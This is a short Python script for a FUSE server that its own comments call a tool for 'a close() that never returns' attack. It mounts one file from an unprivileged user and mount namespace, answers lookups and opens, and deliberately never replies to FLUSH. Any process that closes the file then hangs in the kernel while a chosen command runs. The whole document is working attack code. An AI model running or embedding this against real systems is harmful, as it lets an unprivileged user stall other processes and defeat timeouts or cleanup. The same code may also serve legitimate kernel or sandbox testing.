#!/usr/bin/env python3
# A FUSE server that never answers FLUSH, for the "a close() that never returns" attack: run by an
# unprivileged user in a user and mount namespace of its own (unshare -Urm), it mounts MNT with one file
# `f`, answers what opening it takes, and holds every FLUSH: whoever close()s a descriptor of `f`, even
# one among several, waits in the kernel until this process exits. Then it runs CMD... (which can open
# MNT/f) and exits when CMD does.
#   fuse-hold.py MNT CMD...
import ctypes, os, struct, sys

mnt, cmd = sys.argv[1], sys.argv[2:]
os.makedirs(mnt, exist_ok=True)
dev = os.open('/dev/fuse', os.O_RDWR)
libc = ctypes.CDLL(None, use_errno=True)
options = f'fd={dev},rootmode=40000,user_id=0,group_id=0'.encode()
if libc.mount(b'fuse', mnt.encode(), b'fuse', 0x6, options) != 0:  # MS_NOSUID | MS_NODEV
    sys.exit(f'fuse-hold: mount: {os.strerror(ctypes.get_errno())}')

def attr(ino, mode):  # struct fuse_attr
    return struct.pack('<QQQQQQIIIIIIIIII', ino, 0, 0, 0, 0, 0, 0, 0, 0, mode, 1, 0, 0, 0, 4096, 0)

def reply(unique, payload=b'', err=0):
    os.write(dev, struct.pack('<IiQ', 16 + len(payload), err, unique) + payload)

child = None
while True:
    if child is not None:
        done, _ = os.waitpid(child, os.WNOHANG)
        if done:
            break
    try:
        buf = os.read(dev, 1 << 20)
    except OSError as e:
        if e.errno == 19:  # ENODEV: unmounted
            break
        if e.errno in (2, 4):
            continue
        raise
    _, op, unique, node = struct.unpack_from('<IIQQ', buf)
    if op == 26:  # INIT
        reply(unique, struct.pack('<IIIIHHIIHH', 7, 31, 0, 0, 16, 12, 65536, 1, 0, 0) + b'\0' * 32)
        child = os.fork()
        if child == 0:
            os.execvp(cmd[0], cmd)
    elif op == 1:  # LOOKUP
        if buf[40:].split(b'\0')[0] == b'f':
            reply(unique, struct.pack('<QQQQII', 2, 0, 60, 60, 0, 0) + attr(2, 0o100666))
        else:
            reply(unique, err=-2)
    elif op == 3:  # GETATTR
        reply(unique, struct.pack('<QII', 60, 0, 0) + attr(node, 0o40755 if node == 1 else 0o100666))
    elif op in (14, 27):  # OPEN, OPENDIR
        reply(unique, struct.pack('<QII', 1, 0, 0))
    elif op == 25:  # FLUSH: held for ever
        print('fuse-hold: a FLUSH is held', file=sys.stderr, flush=True)
    elif op in (2, 36, 42):  # FORGET, INTERRUPT, BATCH_FORGET: no reply
        pass
    elif op in (18, 29, 34):  # RELEASE, RELEASEDIR, ACCESS
        reply(unique)
    else:
        reply(unique, err=-38)  # ENOSYS
